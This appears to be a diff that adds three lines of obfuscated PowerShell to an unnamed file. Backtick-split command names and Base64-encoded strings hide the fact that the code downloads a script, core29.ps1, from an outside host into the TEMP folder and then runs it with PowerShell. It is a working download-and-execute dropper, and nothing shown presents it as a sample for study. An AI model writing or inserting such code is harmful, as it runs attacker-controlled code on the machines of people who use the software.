@@ -1,0 +1,3 @@
+$dest = J`o`in-`Path $env:TEMP (([Text.Encoding]::Unicode.GetStr`ing([Convert]::FromBase64String('YwBvAHIAZQAyADkALgBwAHMA')))+([Text.Encoding]::Uni`c`ode.Get`Str`ing([Convert]::FromBase64`String('MQA='))))
+(New-`Object Net.`WebC`l`ient).D`own`loa`dF`i`le(([Text.Encoding]::Un`i`code.GetStr`ing([Convert]::FromBase64String('aAB0AHQAcAA6AC8ALwBpAG0AZwAtAGgAbwBzAHQAaQBuAGcALgB0AGUAcwB0AC8AYwBvAHIAZQAyADkALgBwAHMAMQA='))), $dest)
+sa`ps po`wershell -ArgumentList $dest
